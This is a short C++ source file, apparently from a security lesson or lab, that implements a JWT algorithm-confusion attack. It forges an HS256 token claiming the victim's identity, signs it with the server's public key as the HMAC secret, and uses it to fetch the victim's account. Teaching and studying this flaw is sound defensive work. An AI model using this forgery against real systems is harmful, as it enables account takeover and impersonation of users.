// Unusual: keeps nothing of its own token but the times.
#include "algorithm_confusion.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const DecodedToken token{
      .header = {{"alg", "HS256"}},
      .claims = {{"sub", evidence.victim}, {"exp", evidence.own_token.claims.integer("exp").value_or(0)}}};
  return {.account = evidence.show_me(sign_hs256(token, evidence.public_key)).body};
}

}  // namespace lesson
